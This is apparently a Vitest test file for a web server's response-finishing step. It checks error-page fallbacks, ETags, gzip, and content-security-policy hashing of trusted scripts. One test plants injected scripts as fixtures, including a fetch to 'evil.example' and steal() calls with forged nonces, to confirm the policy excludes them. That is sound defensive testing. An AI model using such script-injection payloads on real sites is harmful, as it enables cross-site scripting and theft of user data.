import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { themeScript } from '@/lib/theme/theme-script'
import { finishAnswer } from '@/scripts/serve/finish-answer'

const nonce = 'bm9uY2U='
const security = { secure: false, frameAncestors: [], walletConnect: false }
const rendered = (status: number, html: string, headers: Record<string, string> = {}) => ({
  status,
  headers: { 'content-type': 'text/html; charset=utf-8', ...headers },
  body: Buffer.from(html),
})

describe('finishing an answer', () => {
  it('says without scripts what the framework leaves to them', async () => {
    const shell =
      '<!DOCTYPE html><html id="__next_error__"><head></head><body><script>a()</script></body></html>'
    const missing = await finishAnswer(rendered(404, shell), security, nonce)
    expect(missing.body.toString()).toContain('<body><noscript><h1>There is no such page</h1>')
    const failed = await finishAnswer(rendered(500, shell), security, nonce)
    expect(failed.body.toString()).toContain('This page could not be made')
  })

  it('leaves whole pages as they are', async () => {
    const page = '<!DOCTYPE html><html lang="en"><body><main>Page not found</main></body></html>'
    expect((await finishAnswer(rendered(404, page), security, nonce)).body.toString()).toBe(page)
  })

  it('tags the same content with the same tag, and keeps a route’s own', async () => {
    const [one, two, other] = await Promise.all(
      ['a', 'a', 'b'].map((text) => finishAnswer(rendered(200, text), security, nonce)),
    )
    expect(one?.etag).toBe(two?.etag)
    expect(one?.etag).not.toBe(other?.etag)
    expect((await finishAnswer(rendered(200, 'a', { etag: '"own"' }), security, nonce)).etag).toBe('"own"')
  })

  it('knows a page without its figures, as HTML and as the data of a navigation', async () => {
    const note = (state: string) => `<p data-view="${state}">The round is late.</p>`
    expect((await finishAnswer(rendered(200, note('late')), security, nonce)).unsettled).toBe(true)
    expect((await finishAnswer(rendered(200, note('failed')), security, nonce)).unsettled).toBe(true)
    expect((await finishAnswer(rendered(200, '<p>data-view</p>'), security, nonce)).unsettled).toBe(false)
    const data = '1:["$","p",null,{"data-view":"failed","children":"…"}]'
    const headers = { 'content-type': 'text/x-component' }
    expect((await finishAnswer(rendered(200, data, headers), security, nonce)).unsettled).toBe(true)
  })

  it('names the framework’s scripts and ours in the policy, and never one that came with a text', async () => {
    const injected = 'self.__next_f.push([1,"x"]);fetch("//evil.example")'
    const html =
      `<html><head><script>${themeScript}</script></head><body><p>Reason: <script>${injected}</script>` +
      `<script nonce="guess">steal()</script><script data-x nonce="${nonce}">steal()</script></p>` +
      `<script nonce="${nonce}" id="_R_">boot()</script><script nonce="${nonce}">self.__next_f.push([1,"a \\"nonce\\":\\"${nonce}\\""])</script>` +
      `<script nonce="${nonce}">self.__next_f.push([1,"b"])</script></body></html>`
    const answer = await finishAnswer(rendered(200, html), security, nonce)
    const policy = answer.headers['content-security-policy'] ?? ''
    const source = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
    const stream = 'self.__next_f.push([1,"a \\"nonce\\":\\"$undefined\\""]);self.__next_f.push([1,"b"])'
    expect(/script-src ([^;]*)/.exec(policy)?.[1]?.split(' ')).toEqual([
      "'self'",
      source(themeScript),
      source('boot()'),
      source(stream),
    ])
    const sent = answer.body.toString()
    expect(sent).toContain(`<script id="_R_">boot()</script><script>${stream}</script>`)
    expect(sent).not.toContain(nonce)
  })

  it('lets a failure page of the build run its scripts, and no other page without a nonce', async () => {
    const html = '<html><body><script>boot()</script></body></html>'
    const policyOf = async (status: number) =>
      (await finishAnswer(rendered(status, html), security, nonce)).headers['content-security-policy']
    expect(await policyOf(500)).toContain('sha256-')
    for (const status of [200, 404]) expect(await policyOf(status)).not.toContain('sha256-')
  })

  it('compresses text that is worth it', async () => {
    expect((await finishAnswer(rendered(200, 'x'.repeat(5000)), security, nonce)).gzip).not.toBeNull()
    expect((await finishAnswer(rendered(200, 'short'), security, nonce)).gzip).toBeNull()
    const image = { status: 200, headers: { 'content-type': 'image/png' }, body: Buffer.alloc(5000) }
    expect((await finishAnswer(image, security, nonce)).gzip).toBeNull()
  })
})
